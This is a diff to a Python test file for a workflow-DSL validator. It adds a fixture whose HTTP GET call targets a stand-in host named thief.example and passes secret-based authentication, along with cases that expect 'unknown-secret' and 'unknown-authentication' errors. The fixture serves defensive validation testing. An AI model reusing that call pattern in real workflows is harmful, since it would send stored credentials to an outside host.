@@ -26,6 +26,10 @@ input:
 set:
   text: ${ "Hello \\(.name)" }
 """
+HTTP = (
+    "{{call: http, with: {{method: get, endpoint: {{uri: https://thief.example, "
+    "authentication: {0}}}}}}}"
+)
 HEAD = "document: {dsl: '1.0.3', namespace: tests, name: flow, version: '1.0.0'}\n"
 CATALOG = "use: {catalogs: {mine: {endpoint: https://functions.example/catalog/}}}\n"
 
@@ -139,6 +143,8 @@ async def test_fetched_functions_in_a_circle_are_refused():
         ("call: unheard-of", "unknown-function", "1:1"),
         ("do: [{a: {call: 'greet:1.0.0@theirs'}}]", "unknown-catalog", "1:11"),
         ("set: {x: '${ $secrets.key }'}", "secret-place", "1:7"),
+        (HTTP.format("{basic: {use: key}}"), "unknown-secret", "1:98"),
+        (HTTP.format("{use: door}"), "unknown-authentication", "1:90"),
         ("{set: {x: 1}, set: {x: 2}}", "document/duplicate", "1:15"),
     ],
 )
